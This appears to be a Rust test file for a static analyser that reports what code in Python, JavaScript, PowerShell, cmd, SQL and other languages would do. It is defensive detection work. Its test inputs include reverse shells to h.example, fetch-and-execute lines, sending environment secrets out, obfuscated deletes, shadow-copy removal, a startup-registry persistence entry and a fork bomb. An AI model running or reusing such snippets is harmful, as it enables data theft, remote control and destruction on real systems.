//! What each language's code would do, and what it would not: examples both ways, compared whole.

use super::*;

fn value(value: &Value) -> String {
    match value {
        Value::Exact(text) => text.clone(),
        Value::Pattern(text) => format!("glob:{text}"),
        Value::Prefix(text, _) => format!("{text}…"),
        Value::OneOf(texts) => texts.join("|"),
        Value::Unknown(_) => String::from("?"),
        Value::Either(values) => values.iter().map(self::value).collect::<Vec<_>>().join("|"),
    }
}

/// One line for each effect; a leading `?` when it may not happen. What files hold is told by the tests of the engine.
fn told(language: Language, text: &str) -> Vec<String> {
    let of_files = |what: &What| {
        matches!(
            what,
            What::Pour { .. } | What::Print { .. } | What::Copy { .. } | What::Load { .. }
        )
    };
    analyse(language, text)
        .iter()
        .filter(|effect| !of_files(&effect.what))
        .map(|effect| {
            let what = match &effect.what {
                What::Act {
                    kind,
                    target,
                    attributes,
                    ..
                } => {
                    let mut words = vec![kind.as_str().to_owned()];
                    words.extend(target.as_ref().map(value));
                    if !attributes.is_empty() {
                        words.push(format!("({})", attributes.join(",")));
                    }
                    words.join(" ")
                }
                What::Shell { text, .. } => format!("sh: {}", value(text)),
                What::Argv { words } => format!(
                    "argv: {}",
                    words.iter().map(value).collect::<Vec<_>>().join(" ")
                ),
                What::Code { language, text, .. } => format!("{language:?}: {}", value(text)),
                What::Enter { to, .. } => format!("in: {}", value(to)),
                What::Leave => String::from("back"),
                What::Unknown { reason } => format!("unknown: {reason}"),
                _ => String::new(),
            };
            if effect.certain {
                what
            } else {
                format!("? {what}")
            }
        })
        .collect()
}

pub(super) fn holds(language: Language, cases: &[(&str, &[&str])]) {
    for (text, expected) in cases {
        assert_eq!(told(language, text), *expected, "{language:?}: {text}");
    }
}

#[test]
fn python_is_followed_through_names_strings_and_paths() {
    holds(
        Language::Python,
        &[
            ("import os as o\no.system('ls ' + '-l')", &["sh: ls -l"]),
            ("from os import *\nsystem('ls')", &["sh: ls"]),
            (
                "getattr(__import__('o' 's'), 'sys' + 'tem')('ls')",
                &["sh: ls"],
            ),
            ("import os\nos.system('sl'[::-1])", &["sh: ls"]),
            (
                "import os\nos.system(''.join(chr(c) for c in [108, 115]))",
                &["sh: ls"],
            ),
            (
                "import subprocess as s\na = ['rm']\na += ['-r', 'x']\ns.run(a)",
                &["argv: rm -r x"],
            ),
            (
                "import subprocess\nsubprocess.call('ls | wc', shell=True)",
                &["sh: ls | wc"],
            ),
            (
                "from pathlib import Path\n(Path.home() / '.profile').write_text('x')",
                &["fs.write ~/.profile (truncate)"],
            ),
            (
                "import shutil\nshutil.rmtree('a', ignore_errors=True)",
                &["fs.delete a (force,recursive)"],
            ),
            (
                "import os\nfor f in os.listdir('t'):\n  os.remove(os.path.join('t', f))",
                &["fs.read t", "fs.delete glob:t/* (wildcard)"],
            ),
            (
                "import os\nif x:\n  os.remove('a')\nos.remove('b')",
                &["? fs.delete a", "fs.delete b"],
            ),
            (
                "def f():\n  import os\n  os.remove('a')\n",
                &["? fs.delete a"],
            ),
            (
                "def f():\n  import os\n  os.remove('a')\nf()",
                &["fs.delete a"],
            ),
            (
                "import os\nos.chmod('a', 0o777)",
                &["fs.permission a (world_writable)"],
            ),
        ],
    );
}

#[test]
fn python_says_what_flows_and_what_cannot_be_read() {
    holds(
        Language::Python,
        &[
            (
                "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
                &["Python: print(1)"],
            ),
            (
                "import zlib\nexec(zlib.decompress(b'x'))",
                &["unknown: code that is decoded when it runs"],
            ),
            (
                "eval(input())",
                &["unknown: code that is computed when it runs"],
            ),
            (
                "import os\ngetattr(os, name)('x')",
                &["unknown: a function whose name is computed"],
            ),
            (
                "import requests\nexec(requests.get('https://h.example/x').text)",
                &[
                    "net.fetch https://h.example/x",
                    "exec.remote_code https://h.example/x",
                ],
            ),
            (
                "import requests\nrequests.post('https://h.example', data=open('a').read())",
                &[
                    "fs.read a",
                    "net.send https://h.example (local_data,method_write)",
                ],
            ),
            (
                "import os, requests\nrequests.post('https://h.example', json=dict(os.environ))",
                &[
                    "credential.read (environment)",
                    "net.send https://h.example (method_write,secret)",
                ],
            ),
            (
                "import socket, os, subprocess\ns = socket.socket()\ns.connect(('h.example', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])",
                &[
                    "net.fetch h.example:9",
                    "argv: /bin/sh",
                    "exec.remote_shell h.example:9",
                ],
            ),
        ],
    );
}

#[test]
fn code_that_only_computes_does_nothing() {
    for (language, text) in [
        (Language::Python, "print(1 + 1)"),
        (
            Language::Python,
            "import json, sys\nprint(json.load(sys.stdin)['a'])",
        ),
        (
            Language::Python,
            "print('os.system(\"rm\")')  # os.system('rm')",
        ),
        (
            Language::Python,
            "import os, re\nre.compile('x')\nprint(os.path.join('a', 'b'), os.getcwd())",
        ),
        (Language::Python, "import shutil\nprint(shutil.which('rm'))"),
        (
            Language::JavaScript,
            "console.log('rm -rf /'); const x = a / b / c, y = /exec\\(/.test('z')",
        ),
        (
            Language::JavaScript,
            "process.stdin.on('data', d => console.log(JSON.parse(d).version))",
        ),
        (
            Language::Perl,
            "while (<>) { print if /error/; s/a/b/g; $n++ } END { print $n }",
        ),
        (
            Language::Ruby,
            "puts RUBY_VERSION; puts [1, 2].map { |x| x * 2 }.inspect",
        ),
        (
            Language::Php,
            "<?php echo json_encode(['a' => 1]); ?> system('x')",
        ),
        (
            Language::Lua,
            "print(string.rep('x', 3)) -- os.execute('x')",
        ),
        (Language::R, "print(1:3); x <- c(1, 2); mean(x)"),
        (
            Language::Awk,
            "BEGIN { print \"system(rm)\" } /a|b/ && $1 > 2 { print $2, $3 }",
        ),
        (Language::Sed, "s/a/b/g;/foo/d;$!N;P;D;y/abc/xyz/"),
        (Language::Ex, "%s/a/b/g|w|q"),
        (Language::Elisp, "(message \"(shell-command \\\"x\\\")\")"),
        (
            Language::AppleScript,
            "display notification \"do shell script \\\"x\\\"\"",
        ),
        (Language::Sql, "-- DROP TABLE x\n/* DELETE FROM y */"),
        (Language::Sql, "CREATE TEMP TABLE t (x int); DROP TABLE t"),
        (
            Language::PowerShell,
            "Write-Output \"Remove-Item C:\\\" # Remove-Item x",
        ),
        (
            Language::PowerShell,
            "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
        ),
        (Language::PowerShell, "Remove-Item x -Recurse -WhatIf"),
        (Language::Cmd, "rem del x\n:: del x\n@echo del x"),
        (Language::Cmd, "shutdown /?"),
    ] {
        assert_eq!(
            told(language, text),
            Vec::<String>::new(),
            "{language:?}: {text}"
        );
    }
}

#[test]
fn javascript_is_followed_through_modules_templates_and_callbacks() {
    holds(
        Language::JavaScript,
        &[
            (
                "const {execSync: run} = require('node:child_process'); run(`ls ${process.env.HOME}`)",
                &["sh: ls ~"],
            ),
            (
                "import {rm} from 'fs/promises'; await rm('a', {recursive: true, force: true})",
                &["fs.delete a (force,recursive)"],
            ),
            ("require('fs')['unlink' + 'Sync']('a')", &["fs.delete a"]),
            (
                "fetch('https://h.example/x').then(r => r.text()).then(eval)",
                &[
                    "net.fetch https://h.example/x",
                    "exec.remote_code https://h.example/x",
                ],
            ),
            (
                "['a', 'b'].forEach(f => require('fs').unlinkSync(f))",
                &["fs.delete a|b"],
            ),
            (
                "require('child_process').spawn('ls', ['-l'], {stdio: 'inherit'})",
                &["argv: ls -l"],
            ),
            ("global['ev' + 'al']('1')", &["JavaScript: 1"]),
            (
                "fetch('https://h.example/x').then(r => r.text()).then(t => eval(t))",
                &[
                    "net.fetch https://h.example/x",
                    "exec.remote_code https://h.example/x",
                ],
            ),
            (
                "const n = require('net'), p = require('child_process'), s = p.spawn('/bin/sh'); const c = n.connect(9, 'h.example', () => c.pipe(s.stdin))",
                &[
                    "argv: /bin/sh",
                    "net.fetch h.example:9",
                    "exec.remote_shell h.example:9",
                ],
            ),
        ],
    );
}

#[test]
fn other_script_languages_say_what_they_run() {
    holds(
        Language::Perl,
        &[
            (
                "system \"ls\"; `id`; print qx{pwd}",
                &["sh: ls", "sh: id", "sh: pwd"],
            ),
            (
                "unlink glob('a/*'); exec 'ls', '-l'",
                &["fs.delete glob:a/* (wildcard)", "argv: ls -l"],
            ),
            (
                "open(F, 'ls |'); open(my $h, '-|', 'ls', '-l'); open G, '>', 'a'",
                &["sh: ls", "argv: ls -l", "fs.write a (truncate)"],
            ),
            (
                "s/(.*)/system('ls')/e; system join '', map { chr } 108, 115",
                &["sh: ls", "sh: ls"],
            ),
        ],
    );
    holds(
        Language::Ruby,
        &[
            (
                "Kernel.send(:system, 'ls'); open('|pwd'); %x{id}",
                &["sh: ls", "sh: pwd", "sh: id"],
            ),
            (
                "Dir.glob('a/*').each { |f| File.delete(f) }",
                &["fs.delete glob:a/* (wildcard)"],
            ),
            (
                "FileUtils.rm_rf Dir.home if x",
                &["? fs.delete ~ (force,recursive)"],
            ),
        ],
    );
    holds(
        Language::Php,
        &[
            ("$f = 'sys' . 'tem'; $f('ls'); `id`;", &["sh: ls", "sh: id"]),
            (
                "eval(base64_decode('ZWNobyAxOw==')); call_user_func('exec', 'ls');",
                &["Php: echo 1;", "sh: ls"],
            ),
        ],
    );
    holds(
        Language::Lua,
        &[(
            "local s = [[ls]] .. ' -l' os.execute(s) io.popen'id'",
            &["sh: ls -l", "sh: id"],
        )],
    );
    holds(
        Language::R,
        &[(
            "unlink('a', recursive = TRUE); eval(parse(text = 'x'))",
            &["fs.delete a (recursive)", "R: x"],
        )],
    );
    holds(
        Language::Julia,
        &[(
            "rm(homedir(), recursive=true); run(`ls -l`)",
            &["fs.delete ~ (recursive)", "sh: ls -l"],
        )],
    );
    holds(
        Language::Elisp,
        &[("(call-process \"ls\" nil nil nil \"-l\")", &["argv: ls -l"])],
    );
    holds(
        Language::AppleScript,
        &[(
            "set x to \"ls \" & \"-l\"\ndo shell script x",
            &["sh: ls -l"],
        )],
    );
    holds(
        Language::Awk,
        &[
            (
                "BEGIN { x = \"ls\"; system(x \" -l\"); \"id\" | getline; print 1 | \"sort\" }",
                &["sh: ls -l", "sh: id", "sh: sort"],
            ),
            (
                "{ print > \"a\"; print >> \"b\" }",
                &["fs.write a (truncate)", "fs.write b (append)"],
            ),
        ],
    );
    holds(
        Language::Sed,
        &[
            ("1e ls -l", &["sh: ls -l"]),
            ("s/.*/ls/e", &["sh: ls"]),
            (
                "s/x/&/e",
                &["unknown: lines of the input are run as commands"],
            ),
            ("/a/w out", &["fs.write out (truncate)"]),
        ],
    );
    holds(
        Language::Ex,
        &[
            (":r !ls|x", &["sh: ls|x"]),
            ("call system('ls')", &["sh: ls"]),
            ("set shell=sh|shell", &["argv: sh", "argv: sh"]),
        ],
    );
}

#[test]
fn sql_statements_are_told_with_target_and_condition() {
    holds(
        Language::Sql,
        &[
            ("SELECT 'DROP TABLE a' FROM b", &["db.read b"]),
            ("dRoP/**/TABLE IF EXISTS a, b", &["db.drop a", "db.drop b"]),
            ("/*!50000 DROP */ TABLE a", &["db.drop a"]),
            (
                "DROP DATABASE a; DROP INDEX b",
                &["db.drop a (database)", "db.alter b"],
            ),
            ("DELETE FROM a", &["db.delete a (no_where)"]),
            (
                "DELETE FROM a WHERE x = 1 OR 'b' = 'b'",
                &["db.delete a (tautology)"],
            ),
            (
                "DELETE FROM a WHERE NOT (1 = 2)",
                &["db.delete a (tautology)"],
            ),
            (
                "DELETE FROM a WHERE id IN (1, 2) AND b < now()",
                &["db.delete a"],
            ),
            ("UPDATE a SET b = 1", &["db.write a (no_where)"]),
            ("UPDATE a SET b = 1 WHERE id = 7", &["db.write a"]),
            ("EXPLAIN DELETE FROM a", &[]),
            ("IF 1 = 1 DROP TABLE a", &["? db.drop a"]),
            (
                "CREATE TEMP TABLE a (x int); DROP TABLE a; DROP TABLE a",
                &["db.drop a"],
            ),
            ("EXPLAIN ANALYZE DELETE FROM a", &["db.delete a (no_where)"]),
            (
                "WITH x AS (DELETE FROM a RETURNING *) SELECT 1 FROM x",
                &["db.delete a (no_where)", "db.read x"],
            ),
            (
                "DO $$ BEGIN EXECUTE 'DROP TABLE a'; END $$",
                &["Sql: DROP TABLE a"],
            ),
            ("COPY a TO PROGRAM 'ls'", &["db.read a (exec)", "sh: ls"]),
            ("\\! ls\n.shell pwd", &["sh: ls", "sh: pwd"]),
            ("GRANT ALL ON *.* TO 'u'", &["db.alter u (all,user)"]),
            ("EXEC(@x)", &["unknown: a statement that is computed"]),
            (
                "FROBNICATE a",
                &["unknown: the statement `FROBNICATE` is not known"],
            ),
        ],
    );
    holds(
        Language::Mongo,
        &[(
            "db.a.drop(); db.b.deleteMany({}); db.c.find({x: 1})",
            &["db.drop a", "db.delete b (no_where)", "db.read c"],
        )],
    );
    holds(
        Language::Redis,
        &[(
            "FLUSHALL\nCONFIG SET dir /x",
            &["db.drop (all)", "db.alter /x (file)"],
        )],
    );
}

#[test]
fn what_clients_that_transfer_files_are_told_is_read() {
    holds(
        Language::Ftp,
        &[
            (
                "user a b\nput a.txt\nget /x/b.txt; mput c d",
                &["fs.read a.txt", "fs.write b.txt", "fs.read c", "fs.read d"],
            ),
            ("mirror -R a b", &["fs.read a (recursive)"]),
            ("mirror a b\nls\nput", &[]),
            ("!rm x", &["sh: rm x"]),
        ],
    );
    holds(
        Language::Curl,
        &[
            (
                "# x\nurl = \"a.example\"\n--upload-file=b\nsilent",
                &["argv: curl --url a.example --upload-file b --silent"],
            ),
            ("# nothing", &[]),
        ],
    );
}

#[test]
fn macros_that_leave_m4_are_told() {
    holds(
        Language::M4,
        &[
            ("syscmd(`ls -l')", &["sh: ls -l"]),
            ("a(`b') esyscmd( `ls', `pwd')", &["sh: ls"]),
            ("include(`/etc/hosts')", &["fs.read /etc/hosts"]),
            ("# syscmd(`ls')", &[]),
            (
                "`syscmd' is a word",
                &["unknown: what `syscmd` is given is computed"],
            ),
            (
                "changequote([, ])syscmd([ls])",
                &["unknown: what `syscmd` is given is computed"],
            ),
            ("define(`x', `y')x", &[]),
        ],
    );
}

#[test]
fn clients_of_clouds_are_followed_through_what_they_give() {
    holds(
        Language::Python,
        &[
            (
                "import boto3\nboto3.resource('s3').Bucket('b').objects.all().delete()",
                &["cloud.delete delete (protected)"],
            ),
            (
                "import boto3\nc = boto3.client('ec2')\nc.terminate_instances(InstanceIds=['i-1'])\nc.describe_instances()",
                &["cloud.delete terminate_instances"],
            ),
            (
                "from google.cloud import storage\nstorage.Client().bucket('b').delete()",
                &["cloud.delete delete"],
            ),
            ("import boto3\nboto3.client('s3').list_buckets()", &[]),
            ("cart.delete_item('x')", &[]),
        ],
    );
    holds(
        Language::JavaScript,
        &[
            (
                "const {DeleteTableCommand: D} = require('@aws-sdk/client-dynamodb')",
                &[],
            ),
            (
                "client.send(new DeleteTableCommand({TableName: 't'}))",
                &["cloud.delete DeleteTable t (protected)"],
            ),
            ("client.send(new ListTablesCommand({}))", &[]),
        ],
    );
}

#[test]
fn powershell_is_followed_through_aliases_pipes_and_encodings() {
    holds(
        Language::PowerShell,
        &[
            ("ri -Rec -Fo $HOME", &["fs.delete ~ (force,recursive)"]),
            ("Re`move-It`em a", &["fs.delete a"]),
            (
                "gci C:\\a | del -Recurse",
                &[
                    "fs.read C:\\a",
                    "fs.delete glob:C:\\a\\* (recursive,wildcard)",
                ],
            ),
            (
                "iwr https://h.example/x | iex",
                &[
                    "net.fetch https://h.example/x",
                    "exec.remote_code https://h.example/x",
                ],
            ),
            (
                "iwr https://h.example/x -o x.exe",
                &["net.fetch https://h.example/x", "fs.write x.exe (create)"],
            ),
            (
                "Get-Process | Stop-Process -Force",
                &["process.kill every process (all)"],
            ),
            (
                "Get-Process | Where-Object { $_.CPU -gt 9 } | Stop-Process",
                &["process.kill stop-process"],
            ),
            (
                "Get-Content a.ps1 | iex",
                &[
                    "fs.read a.ps1",
                    "unknown: code that is read from a file when it runs",
                ],
            ),
            ("iex ('Rem' + 'ove-Item a')", &["PowerShell: Remove-Item a"]),
            ("&('{1}{0}' -f 'x', 'ie') 'ls'", &["PowerShell: ls"]),
            (
                "iex ((108, 115 | % { [char]$_ }) -join '')",
                &["PowerShell: ls"],
            ),
            (
                "powershell -enc bABzAA==",
                &["PowerShell: ls", "exec.dynamic encoded command"],
            ),
            (
                "[IO.Directory]::Delete('a', $true)",
                &["fs.delete a (recursive)"],
            ),
            (
                "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value y",
                &[
                    "persist.startup HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run (startup_file)",
                ],
            ),
            (
                "git push --force; rm -rf a",
                &["argv: git push --force", "argv: rm -rf a"],
            ),
            ("if (Test-Path a) { Remove-Item a }", &["? fs.delete a"]),
            (
                "Frob-It; Remove-Frob x",
                &[
                    "argv: Frob-It",
                    "unknown: the cmdlet `remove-frob` is not known",
                ],
            ),
        ],
    );
}

#[test]
fn cmd_is_followed_through_carets_variables_and_branches() {
    holds(
        Language::Cmd,
        &[
            (
                "d^el/s /q C:\\a\\*",
                &["fs.delete glob:C:\\a\\* (force,recursive,wildcard)"],
            ),
            ("set x=de&& %x%l a", &["fs.delete a"]),
            ("%COMSPEC:~0,1%md /c del a", &["Cmd: del a"]),
            (
                "if exist a (rd /s a) else (md b)",
                &["? fs.delete a (recursive)", "? fs.write b (create)"],
            ),
            (
                "for %f in (*.obj) do del %f",
                &["fs.delete glob:*.obj (wildcard)"],
            ),
            (
                "echo x>>a 2>nul & type b",
                &["fs.write a (append)", "fs.read b"],
            ),
            (
                "vssadmin delete shadows /all",
                &["disk.write volume shadow copies"],
            ),
            ("echo ^d^el /s a | cmd", &["Cmd: del /s a"]),
            (
                "type a.bat | cmd /q",
                &["fs.read a.bat", "exec.local a.bat"],
            ),
            ("echo a || cmd", &[]),
            ("echo ls | findstr l", &[]),
            (
                "npm test && git push",
                &["argv: npm test", "argv: git push"],
            ),
        ],
    );
}

#[test]
fn a_batch_file_that_starts_itself_without_end_is_seen() {
    for text in ["%0|%0", ":s\nstart %0\ngoto s", ":s\n%0 | %0"] {
        let found = analyse(Language::Cmd, text);
        let exhausts = |effect: &CodeEffect| {
            matches!(
                &effect.what,
                What::Act {
                    kind: ActionKind::ProcessExhaust,
                    ..
                }
            )
        };
        assert!(found.iter().any(exhausts), "{text}");
    }
    assert!(
        !analyse(Language::Cmd, "echo %0")
            .iter()
            .any(|effect| matches!(
                &effect.what,
                What::Act {
                    kind: ActionKind::ProcessExhaust,
                    ..
                }
            ))
    );
}

#[test]
fn functions_that_python_is_given_under_another_name_are_called() {
    holds(
        Language::Python,
        &[
            (
                "import os; setattr(__builtins__, 'z', os.system); z('rm x')",
                &["sh: rm x"],
            ),
            (
                "import os; list(map(os.remove, ['a', 'b']))",
                &["fs.delete a", "fs.delete b"],
            ),
            (
                "import os, builtins; builtins.z = os.system; z('rm x')",
                &["sh: rm x"],
            ),
            (
                "import os; globals()['z'] = os.system; z('rm x')",
                &["sh: rm x"],
            ),
            ("import os; self.z = os.system; z('rm x')", &[]),
            ("print(list(map(str, [1, 2])))", &[]),
            ("setattr(x, 'name', 'rm x')", &[]),
        ],
    );
}
